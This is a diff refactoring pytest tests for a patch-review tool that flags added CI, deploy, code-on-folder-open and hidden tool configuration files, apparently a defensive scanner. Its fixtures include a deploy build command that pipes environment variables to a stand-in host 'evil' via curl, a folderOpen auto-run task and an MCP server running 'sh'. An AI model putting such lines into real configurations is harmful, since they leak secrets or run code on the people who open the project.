@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import subprocess
+from collections.abc import Iterable
 from pathlib import Path
 
 import pytest
@@ -33,6 +34,16 @@ def diff_of(tmp_path: Path, change) -> str:
 
 def kinds(patch: str) -> list[tuple[str, str]]:
     return sorted((finding.kind, finding.path) for finding in review_patch(patch).findings)
+
+
+def planted(tmp_path: Path, names: Iterable[str], text: str = "x\n") -> list[tuple[str, str]]:
+    """The findings, (kind, path) sorted, of the patch `git diff` writes for adding each of `names` holding `text`."""
+    def plant(repo: Path) -> None:
+        for name in names:
+            (repo / name).parent.mkdir(parents=True, exist_ok=True)
+            (repo / name).write_text(text)
+
+    return kinds(diff_of(tmp_path, plant))
 
 
 def test_an_ordinary_fix_has_no_findings(tmp_path: Path) -> None:
@@ -195,12 +206,7 @@ OTHER_CI_FILES = [
 
 
 def test_every_ci_systems_files_are_ci_config(tmp_path: Path) -> None:
-    def plant(repo: Path) -> None:
-        for name in OTHER_CI_FILES:
-            (repo / name).parent.mkdir(parents=True, exist_ok=True)
-            (repo / name).write_text("steps: [env]\n")
-
-    assert kinds(diff_of(tmp_path, plant)) == sorted(("ci_config", name) for name in OTHER_CI_FILES)
+    assert planted(tmp_path, OTHER_CI_FILES, "steps: [env]\n") == sorted(("ci_config", name) for name in OTHER_CI_FILES)
 
 
 # The fourth tester's list (issue 16): CI systems the list above missed, and the dotless i, whose upper
@@ -214,12 +220,9 @@ FOURTH_TESTER_CI_FILES = [
 
 
 def test_the_fourth_testers_ci_files_are_ci_config(tmp_path: Path) -> None:
-    def plant(repo: Path) -> None:
-        for name in FOURTH_TESTER_CI_FILES:
-            (repo / name).parent.mkdir(parents=True, exist_ok=True)
-            (repo / name).write_text("steps: [env]\n")
-
-    assert kinds(diff_of(tmp_path, plant)) == sorted(("ci_config", name) for name in FOURTH_TESTER_CI_FILES)
+    text = "steps: [env]\n"
+    assert planted(tmp_path, FOURTH_TESTER_CI_FILES, text) == sorted(
+        ("ci_config", name) for name in FOURTH_TESTER_CI_FILES)
 
 
 def test_every_letter_that_upper_cases_to_ascii_is_read_as_that_ascii() -> None:
@@ -240,13 +243,10 @@ def test_a_symlink_in_place_of_another_ci_systems_directory_is_ci_config() -> No
 
 
 def test_look_alike_names_are_not_sensitive(tmp_path: Path) -> None:
-    def plant(repo: Path) -> None:
-        for name in ("src/agent.toml", "src/transaction.yml", "docs/github/workflows.md", "docs/jenkins.md",
-                     "src/gitea/workflows.py", "docs/appveyor.yml", "notes/devcontainer.md"):
-            (repo / name).parent.mkdir(parents=True, exist_ok=True)
-            (repo / name).write_text("x\n")
-
-    assert kinds(diff_of(tmp_path, plant)) == []
+    assert planted(tmp_path, [
+        "src/agent.toml", "src/transaction.yml", "docs/github/workflows.md", "docs/jenkins.md",
+        "src/gitea/workflows.py", "docs/appveyor.yml", "notes/devcontainer.md",
+    ]) == []
 
 
 # -- symlinks resolved in the patched tree (issue 16, item 2: links that leave only once resolved) ----------
@@ -399,12 +399,8 @@ OPEN_OR_COMMIT_FILES = [
 
 
 def test_files_that_run_code_when_the_repository_is_opened_or_committed_to_are_ci_config(tmp_path: Path) -> None:
-    def plant(repo: Path) -> None:
-        for name in OPEN_OR_COMMIT_FILES:
-            (repo / name).parent.mkdir(parents=True, exist_ok=True)
-            (repo / name).write_text('{"tasks": [{"runOptions": {"runOn": "folderOpen"}}]}\n')
-
-    assert kinds(diff_of(tmp_path, plant)) == sorted(("ci_config", name) for name in OPEN_OR_COMMIT_FILES)
+    text = '{"tasks": [{"runOptions": {"runOn": "folderOpen"}}]}\n'
+    assert planted(tmp_path, OPEN_OR_COMMIT_FILES, text) == sorted(("ci_config", name) for name in OPEN_OR_COMMIT_FILES)
 
 
 @pytest.mark.parametrize(("name", "kind"), [
@@ -432,13 +428,10 @@ def test_windows_stream_suffixes_and_short_names_of_protected_files_are_found(
 
 
 def test_short_names_and_streams_of_ordinary_files_and_non_code_settings_pass(tmp_path: Path) -> None:
-    def plant(repo: Path) -> None:
-        for name in ("PROGRA~1/x.py", "src/MAIN~1.PY", "src/app.py:note", "GITMOD~5", "AGENT~1.TXT", ".editorconfig",
-                     ".vscode/extensions.json", "docs/husky.md", "src/lefthook.yml.md", ".gitattributes"):
-            (repo / name).parent.mkdir(parents=True, exist_ok=True)
-            (repo / name).write_text("x\n")
-
-    assert kinds(diff_of(tmp_path, plant)) == []
+    assert planted(tmp_path, [
+        "PROGRA~1/x.py", "src/MAIN~1.PY", "src/app.py:note", "GITMOD~5", "AGENT~1.TXT", ".editorconfig",
+        ".vscode/extensions.json", "docs/husky.md", "src/lefthook.yml.md", ".gitattributes",
+    ]) == []
 
 
 # -- the sixth tester (issue 16, item 2) ---------------------------------------------------------------------
@@ -468,22 +461,16 @@ SIXTH_TESTER_OPEN_FILES = [
 
 
 def test_the_sixth_testers_code_on_open_files_are_ci_config(tmp_path: Path) -> None:
-    def plant(repo: Path) -> None:
-        for name in SIXTH_TESTER_OPEN_FILES:
-            (repo / name).parent.mkdir(parents=True, exist_ok=True)
-            (repo / name).write_text('{"tasks": [{"runOptions": {"runOn": "folderOpen"}}]}\n')
-
-    assert kinds(diff_of(tmp_path, plant)) == sorted(("ci_config", name) for name in SIXTH_TESTER_OPEN_FILES)
+    text = '{"tasks": [{"runOptions": {"runOn": "folderOpen"}}]}\n'
+    assert planted(tmp_path, SIXTH_TESTER_OPEN_FILES, text) == sorted(
+        ("ci_config", name) for name in SIXTH_TESTER_OPEN_FILES)
 
 
 def test_look_alikes_of_the_sixth_testers_files_pass(tmp_path: Path) -> None:
-    def plant(repo: Path) -> None:
-        for name in ("docs/code-workspace.md", "src/exrc.py", "docs/devbox.json.md", "src/replit.py",
-                     "theia/tasks.json", "docs/vimrc.txt", "idx/dev.nix", "flake.nix"):
-            (repo / name).parent.mkdir(parents=True, exist_ok=True)
-            (repo / name).write_text("x\n")
-
-    assert kinds(diff_of(tmp_path, plant)) == []
+    assert planted(tmp_path, [
+        "docs/code-workspace.md", "src/exrc.py", "docs/devbox.json.md", "src/replit.py", "theia/tasks.json",
+        "docs/vimrc.txt", "idx/dev.nix", "flake.nix",
+    ]) == []
 
 
 def reached(patch: str, links: dict[str, str]) -> list[tuple[str, str, str]]:
@@ -601,13 +588,10 @@ NOBODY_LISTED = [  # the rule, not a list: names no tester named
 
 
 def test_every_hidden_file_or_folder_at_any_depth_is_tool_config(tmp_path: Path) -> None:
-    def plant(repo: Path) -> None:
-        for name in TESTER_TOOL_CONFIGS + NOBODY_LISTED:
-            (repo / name).parent.mkdir(parents=True, exist_ok=True)
-            (repo / name).write_text('{"mcpServers": {"x": {"command": "sh"}}}\n')
-
     expected = {("tool_config", name) for name in NOBODY_LISTED + TESTER_TOOL_CONFIGS if name != ".do/app.yaml"}
-    assert set(kinds(diff_of(tmp_path, plant))) == expected | {("ci_config", ".do/app.yaml")}  # a deploy: more precise
+    expected.add(("ci_config", ".do/app.yaml"))  # a deploy platform's: the more precise kind
+    text = '{"mcpServers": {"x": {"command": "sh"}}}\n'
+    assert set(planted(tmp_path, TESTER_TOOL_CONFIGS + NOBODY_LISTED, text)) == expected
     review = review_patch(file_patch(".mcp.json"))
     assert str(review.findings[0]) == (".mcp.json: changes a hidden configuration file that tools, editors or agents "
                                       "read and may run code from (added)")
@@ -617,14 +601,11 @@ def test_every_hidden_file_or_folder_at_any_depth_is_tool_config(tmp_path: Path)
 
 
 def test_inert_hidden_files_pass_wherever_they_are(tmp_path: Path) -> None:
-    def plant(repo: Path) -> None:
-        for name in (".gitignore", "pkg/.gitignore", ".gitkeep", "data/empty/.keep", ".mailmap", ".editorconfig",
-                     "web/.editorconfig", ".dockerignore", ".prettierignore", ".eslintignore", "pkg/.npmignore",
-                     ".gitattributes", ".vscode/extensions.json", "src/gitignore.py", "a.b/c.d"):
-            (repo / name).parent.mkdir(parents=True, exist_ok=True)
-            (repo / name).write_text("x\n")
-
-    assert kinds(diff_of(tmp_path, plant)) == []
+    assert planted(tmp_path, [
+        ".gitignore", "pkg/.gitignore", ".gitkeep", "data/empty/.keep", ".mailmap", ".editorconfig",
+        "web/.editorconfig", ".dockerignore", ".prettierignore", ".eslintignore", "pkg/.npmignore",
+        ".gitattributes", ".vscode/extensions.json", "src/gitignore.py", "a.b/c.d",
+    ]) == []
 
 
 @pytest.mark.parametrize("name", [
@@ -675,23 +656,16 @@ DEPLOY_CONFIGS = [
 
 
 def test_deploy_platforms_build_configs_are_ci_config_at_any_depth(tmp_path: Path) -> None:
-    def plant(repo: Path) -> None:
-        for name in DEPLOY_CONFIGS:
-            (repo / name).parent.mkdir(parents=True, exist_ok=True)
-            (repo / name).write_text('[build]\ncommand = "env | curl -d @- https://evil"\n')
-
-    assert kinds(diff_of(tmp_path, plant)) == sorted(("ci_config", name) for name in DEPLOY_CONFIGS)
+    text = '[build]\ncommand = "env | curl -d @- https://evil"\n'
+    assert planted(tmp_path, DEPLOY_CONFIGS, text) == sorted(("ci_config", name) for name in DEPLOY_CONFIGS)
     assert "a deploy platform's build" in str(review_patch(file_patch("netlify.toml")).findings[0])
 
 
 def test_look_alikes_of_deploy_configs_pass(tmp_path: Path) -> None:
-    def plant(repo: Path) -> None:
-        for name in ("docs/netlify.md", "src/procfile.py", "myapp.json", "app.json.md", "src/platform/x.py",
-                     "fly.tomlx", "docs/ebextensions/x.md", "pyproject.toml", "src/app.py"):
-            (repo / name).parent.mkdir(parents=True, exist_ok=True)
-            (repo / name).write_text("x\n")
-
-    assert kinds(diff_of(tmp_path, plant)) == []
+    assert planted(tmp_path, [
+        "docs/netlify.md", "src/procfile.py", "myapp.json", "app.json.md", "src/platform/x.py", "fly.tomlx",
+        "docs/ebextensions/x.md", "pyproject.toml", "src/app.py",
+    ]) == []
 
 
 # -- every file of a local action's folder: `ci_config` (issue 16, item 2c) --------------------------------------
